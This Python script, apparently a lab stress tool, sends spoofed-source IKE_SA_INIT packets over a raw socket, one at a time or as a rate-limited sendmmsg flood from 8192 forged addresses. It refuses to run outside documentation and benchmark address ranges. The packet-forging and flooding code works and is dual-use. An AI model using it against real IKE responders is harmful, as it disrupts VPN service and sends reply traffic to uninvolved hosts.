#!/usr/bin/env python3
"""Send IKE_SA_INIT requests under other hosts' addresses (IPv4), to see what a responder makes of them.

    flood.py FROM TO one                   a single one, from exactly this address
    flood.py NETWORK TO RATE SECONDS       RATE a second for so long, from 8192 addresses of the network in turn

Each is what an honest initiator would send: AES-GCM-16 with 128 bits, HMAC-SHA2-256, Curve25519, and of usual length. The
answers go to whoever has the address. Meant for a network made for the purpose: it refuses to run outside the ranges for
documentation and benchmarks (RFC 5737, RFC 2544). Prints how many were sent, and how many a second that was.
"""
import ctypes
import ipaddress
import os
import socket
import struct
import sys
import time

ALLOWED = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "198.18.0.0/15")]
BATCH, POOL = 64, 8192
SOURCE_AT, SPI_AT, NONCE_AT = 12, 28, 28 + 28 + 40 + 40 + 4  # in the IP packet


def payload(following, body):
    return struct.pack("!BBH", following, 0, len(body) + 4) + body


def notify(following, kind, body=b""):
    return payload(following, struct.pack("!BBH", 0, 0, kind) + body)


def request(source, target):
    """Return the IP packet (RFC 7296 sections 3.1 to 3.10)."""
    proposal = struct.pack("!BBHBBBB", 0, 0, 36, 1, 1, 0, 3)
    proposal += bytes.fromhex("0300000c 01000014 800e0080 03000008 02000005 00000008 0400001f")
    body = payload(34, proposal)
    body += payload(40, struct.pack("!HH", 31, 0) + os.urandom(32))
    body += payload(41, os.urandom(32))
    body += notify(41, 16388, os.urandom(20)) + notify(41, 16389, os.urandom(20))  # NAT detection
    body += notify(41, 16430) + notify(0, 16431, struct.pack("!HHHH", 2, 3, 4, 5))  # fragments, hashes
    message = os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 8, 0, 28 + len(body)) + body
    udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    return ip + source.packed + target.packed + udp


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iov", ctypes.POINTER(IoVec)),
        ("iov_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint32),
    ]


def many(network, target):
    """Return POOL packets, each from another address and with another SPI and nonce, and the messages that carry them."""
    packet = request(network[1], target)
    first = int(network.network_address)
    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + bytes(2) + target.packed + bytes(8), 16)
    packets = ctypes.create_string_buffer(packet * POOL, len(packet) * POOL)
    messages, vectors = (MsgHdr * POOL)(), (IoVec * POOL)()
    for number in range(POOL):
        at = number * len(packet)
        packets[at + SOURCE_AT : at + SOURCE_AT + 4] = struct.pack("!I", first + number * 7919 % network.num_addresses)
        packets[at + SPI_AT : at + SPI_AT + 8] = packets[at + NONCE_AT : at + NONCE_AT + 8] = os.urandom(8)
        vectors[number].base, vectors[number].length = ctypes.addressof(packets) + at, len(packet)
        messages[number].name, messages[number].name_length = ctypes.addressof(address), 16
        messages[number].iov, messages[number].iov_count = ctypes.pointer(vectors[number]), 1
    return messages, (packets, vectors, address)


def flood(raw, network, target, rate, seconds):
    """Return how many packets were sent, and the seconds that it took."""
    messages, kept = many(network, target)
    batches = [ctypes.byref(messages, at * ctypes.sizeof(MsgHdr)) for at in range(0, POOL, BATCH)]
    send = ctypes.CDLL(None, use_errno=True).sendmmsg
    sent, turn, began = 0, 0, time.monotonic()
    while (elapsed := time.monotonic() - began) < seconds:
        if sent > elapsed * rate:
            time.sleep(BATCH / rate)
            continue
        sent += max(0, send(raw.fileno(), batches[turn % len(batches)], BATCH, 0))
        turn += 1
    del kept
    return sent, elapsed


def main():
    network, target = ipaddress.ip_network(sys.argv[1]), ipaddress.ip_address(sys.argv[2])
    if not all(any(x.subnet_of(n) for n in ALLOWED) for x in (network, ipaddress.ip_network(target))):
        sys.exit("only for addresses of documentation and benchmarks")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        if sys.argv[3] == "one":
            raw.sendto(request(network[0], target), (str(target), 0))
            return
        sent, took = flood(raw, network, target, int(sys.argv[3]), float(sys.argv[4]))
    print(f"sent={sent} rate={sent / took:.0f}")


main()
